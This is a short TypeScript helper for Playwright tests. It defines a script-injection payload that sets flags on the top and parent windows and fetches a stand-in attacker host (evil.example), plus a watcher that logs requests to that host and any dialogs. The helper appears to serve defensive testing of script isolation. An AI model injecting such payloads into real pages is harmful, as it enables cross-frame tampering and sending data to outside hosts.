import type { Page } from '@playwright/test';

/** A script that leaves a mark in every window it reaches, and calls home. */
export const attack = "top.ran=1;parent.ran=1;fetch('https://evil.example/x')";

/** Notes whatever a page does for `attack` from now on: the addresses it asks for, the words it shows. */
export function watchAttack(page: Page): readonly string[] {
  const strange: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) strange.push(request.url());
  });
  page.on('dialog', (dialog) => {
    strange.push(dialog.message());
    void dialog.dismiss();
  });
  return strange;
}
